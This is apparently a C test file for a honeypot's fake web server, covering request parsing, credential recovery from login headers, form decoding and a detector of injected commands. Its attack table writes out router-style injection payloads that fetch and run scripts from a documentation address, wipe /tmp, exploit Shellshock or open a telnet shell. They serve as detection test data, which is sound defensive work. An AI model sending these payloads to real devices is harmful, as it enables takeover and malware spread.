/* The parts of the web server: reading what bots send, and passwords and commands in it. */
#include "passive/services/http/auth.h"
#include "passive/services/http/body.h"
#include "passive/services/http/dialect.h"
#include "passive/services/http/form.h"
#include "passive/services/http/injection.h"
#include "tests/test.h"

static struct request parse(struct bytes head)
{
	struct request r;
	size_t scanned = 0;
	size_t n = request_head_length(head, &scanned);
	CHECK_SAY(n == head.len, "head of %zu bytes read as %zu", head.len, n);
	request_parse(head, &r);
	return r;
}

TEST(http_heads_are_read_tolerantly)
{
	struct request r =
		parse(BYTES("\r\nget http://a.example:81/x%20y?q=1 HTTP/1.1\r\nhost: b\r\n\r\n"));
	CHECK(!r.malformed && bytes_equal_text(r.method, "get") && r.version == HTTP_1_1);
	CHECK(bytes_equal_text(r.host, "a.example:81") && bytes_equal_text(r.path, "/x%20y"));
	CHECK(bytes_equal_text(r.query, "q=1"));
	r = parse(BYTES("GET /shell?cd /tmp; wget http://h/f HTTP/1.1\n\n"));
	CHECK(bytes_equal_text(r.target, "/shell?cd /tmp; wget http://h/f") &&
	      r.version == HTTP_1_1);
	r = parse(BYTES("GET /\n"));
	CHECK(r.version == HTTP_0_9 && !r.malformed && bytes_equal_text(r.path, "/"));
	r = parse(BYTES("GET / SIP/2.0\r\n\r\n"));
	CHECK(r.version == HTTP_FOREIGN && bytes_equal_text(r.target, "/"));
	r = parse(BYTES("POST / HTTP/1.0\r\nno colon here\r\n\r\n"));
	CHECK(r.malformed);
	r = parse(BYTES("POST / HTTP/1.0\r\nContent-Length: -1\r\n\r\n"));
	CHECK(r.malformed);
	r = parse(BYTES("A / HTTP/1.1\r\nConnection: Keep-Alive, x\r\nExpect: 100-continue\r\n"
			"Transfer-Encoding: gzip, Chunked\r\nCookie: a=1; SID=2;b=3\r\n\r\n"));
	CHECK(r.keep_alive && !r.close && r.expects_continue && r.chunked && r.fields == 4);
	CHECK(bytes_equal_text(request_cookie(&r, "SID"), "2") && !request_cookie(&r, "ID").at);
}

TEST(http_heads_wait_for_their_end)
{
	size_t scanned = 0;
	CHECK(request_head_length(BYTES("GET / HTTP/1.1\r\nHost: x\r\n"), &scanned) == 0);
	CHECK(scanned == 25);
	scanned = 0;
	CHECK(request_head_length(BYTES("\r\n"), &scanned) == 0);
	CHECK(request_head_length(BYTES("\r\nGET / HTTP/1.1\r\n\r\n"), &scanned) == 20);
	scanned = 0;
	CHECK(request_head_length(BYTES("\r\n\r\n"), &scanned) == 2);
}

TEST(http_bodies_are_kept_up_to_a_limit_and_counted_beyond)
{
	struct arena arena = ARENA(1u << 20);
	struct request r = {.length = 10, .has_length = true};
	struct body b = {0};
	struct reader in = reader_of("0123456789GET", 13);
	body_begin(&b, &r);
	CHECK(body_feed(&b, &arena, 4, &in) == BODY_DONE);
	CHECK(b.cut && b.seen == 10 && bytes_equal_text(body_bytes(&b), "0123") &&
	      reader_left(&in) == 3);
	r = (struct request){.chunked = true};
	body_begin(&b, &r);
	in = reader_of("1\nx\nZ\n", 6);
	CHECK(body_feed(&b, &arena, 4, &in) == BODY_BAD);
	body_begin(&b, &r);
	in = reader_of("fffffffffffffffff\r\n", 19);
	CHECK(body_feed(&b, &arena, 4, &in) == BODY_BAD);
	arena_done(&arena);
}

TEST(http_digest_passwords_are_found)
{
	/* The example of RFC 2617 3.5. */
	static const struct persona_credential known = {BYTES("Mufasa"), BYTES("Circle Of Life")};
	const struct persona p = {.credentials = &known, .credential_count = 1};
	const char ours[2][AUTH_NONCE_CHARS + 1] = {"", ""};
	struct bytes field = BYTES(
		"Digest username=\"Mufasa\", realm=\"testrealm@host.com\", "
		"nonce=\"dcd98b7102dd2f0e8b11d0f600bfb0c093\", uri=\"/dir/index.html\", qop=auth, "
		"nc=00000001, cnonce=\"0a4f113b\", response=\"6629fae49393a05397450978507c4ef1\", "
		"opaque=\"5ccc069c403ebaf9f0171e9517f40e41\"");
	struct auth a;
	CHECK(auth_read(field, BYTES("GET"), &p, ours, &a));
	CHECK(a.kind == AUTH_DIGEST && !a.secret_known); /* a nonce of another device */
	CHECK(bytes_equal_text(a.secret, "6629fae49393a05397450978507c4ef1"));
	/* Without qop (RFC 2069), to a nonce of ours, with a password that attackers try often. */
	const char given[2][AUTH_NONCE_CHARS + 1] = {"0123456789abcdef0123456789abcdef", ""};
	field = BYTES(
		"Digest "
		"username=\"admin\",realm=\"WIFICAM\",nonce=\"0123456789abcdef0123456789abcdef\","
		"uri=\"/\",response=\"11dde7483a974df343882acdc7258e7c\"");
	CHECK(auth_read(field, BYTES("GET"), &p, given, &a));
	CHECK(a.secret_known && bytes_equal_text(a.secret, "12345"));
	CHECK(auth_read(field, BYTES("POST"), &p, given, &a) && !a.secret_known);
	CHECK(auth_read(BYTES("basic dXNlcjpwYTpzcw=="), BYTES("GET"), &p, ours, &a));
	CHECK(bytes_equal_text(a.user, "user") && bytes_equal_text(a.secret, "pa:ss") &&
	      a.secret_known);
	CHECK(!auth_read(BYTES("Bearer x"), BYTES("GET"), &p, ours, &a));
}

TEST(http_forms_are_decoded_and_parted)
{
	uint8_t room[64];
	struct writer w = writer_of(room, sizeof room);
	form_decode(BYTES("a%41+%zz%4"), &w);
	CHECK(bytes_equal_text(writer_bytes(&w), "aA %zz%4"));
	CHECK(bytes_equal_text(form_value(BYTES("a=1&bb=2=3&c"), "bb"), "2=3"));
	CHECK(form_value(BYTES("a=1&c"), "c").at && !form_value(BYTES("a=1"), "b").at);
	struct bytes body = BYTES("--X\nContent-Disposition: form-data; name=\"t\"\n\nv\n--X\n"
				  "Content-Disposition: form-data; name=f; filename=\"\"\n\nhalf");
	struct bytes rest = body, boundary = form_boundary((struct bytes){0}, body);
	struct form_part part;
	CHECK(form_part_next(&rest, boundary, &part) && !part.is_file);
	CHECK(bytes_equal_text(part.name, "t") && bytes_equal_text(part.content, "v"));
	CHECK(form_part_next(&rest, boundary, &part) && part.is_file && part.filename.len == 0);
	CHECK(bytes_equal_text(part.content, "half"));
	CHECK(!form_part_next(&rest, boundary, &part));
}

static const struct {
	const char *raw, *url, *how; /* url NULL: commands without a file; raw only: no commands */
} attacks[] = {
	{"/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://192.0.2.1:80/"
	 "a;sh${IFS}a&>r",
	 "http://192.0.2.1:80/a", "wget"},
	{"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/"
	 "m+-O+/tmp/n;sh+n",
	 "http://192.0.2.1/m", "wget"},
	{"XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://192.0.2.1/g+-O+/tmp/"
	 "g`;sh+/tmp/g",
	 "http://192.0.2.1/g", "wget"},
	{"<NewInternalClient>`cd /tmp; tftp -g -r mips -l x 192.0.2.1; sh x`</NewInternalClient>",
	 "tftp://192.0.2.1/mips", "tftp"},
	{"/cgi-bin/x?a=$(ftpget%20-v%20-u%20anonymous%20192.0.2.1%20local%20remote.sh)",
	 "ftp://192.0.2.1/remote.sh", "ftpget"},
	{"() { :;}; /bin/bash -c \"curl -o /tmp/x https://192.0.2.1/x; sh /tmp/x\"",
	 "https://192.0.2.1/x", "curl"},
	{"/a?p=%253Bwget%2520http://192.0.2.1/twice", "http://192.0.2.1/twice", "wget"},
	{"/set_ftp.cgi?loginuse=admin&loginpas=x&pwd=$(telnetd -p25 -l/bin/sh)&dir=/", NULL,
	 "telnetd"},
	{"/index.php?s=/module/action/param1/${@die(md5(1))}", NULL, NULL},
	{"/search?q=cat&id=5&name=echo", NULL, NULL},
	{"/", NULL, NULL},
};

TEST(http_hidden_commands_are_found_with_their_files)
{
	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) {
		uint8_t text[INJECTION_MAX], room[256];
		struct writer w = writer_of(text, sizeof text), made = writer_of(room, sizeof room);
		struct injection x;
		injection_unwrap(bytes_of_text(attacks[i].raw), &w);
		bool found = injection_find(writer_bytes(&w), &made, &x);
		CHECK_SAY(found == (attacks[i].how != NULL), "%s", attacks[i].raw);
		CHECK_SAY(x.count == (attacks[i].url != NULL), "%s: %zu files", attacks[i].raw,
			  x.count);
		if (attacks[i].url)
			CHECK_SAY(bytes_equal_text(x.fetches[0].url, attacks[i].url) &&
					  !strcmp(x.fetches[0].how, attacks[i].how),
				  "%s: %.*s by %s", attacks[i].raw, (int)x.fetches[0].url.len,
				  x.fetches[0].url.at, x.fetches[0].how);
	}
}

TEST(http_dialects_are_told_apart_by_the_server_they_claim)
{
	CHECK(!strcmp(dialect_of("Boa/0.94.14rc21")->server, "Boa/"));
	CHECK(!strcmp(dialect_of("lighttpd/1.4.35")->server, "lighttpd"));
	CHECK(dialect_of(NULL) && dialect_of("unheard of"));
	CHECK(!strcmp(dialect_reason(dialect_of("GoAhead-Webs"), 404), "Site or Page Not Found"));
	CHECK(!strcmp(dialect_reason(dialect_of("mini_httpd/1.30"), 200), "Ok"));
	uint8_t room[64];
	struct writer w = writer_of(room, sizeof room);
	dialect_write_date(784111777000000u, false, &w);
	CHECK(bytes_equal_text(writer_bytes(&w),
			       "Sun, 06 Nov 1994 08:49:37 GMT")); /* RFC 9110 5.6.7 */
}
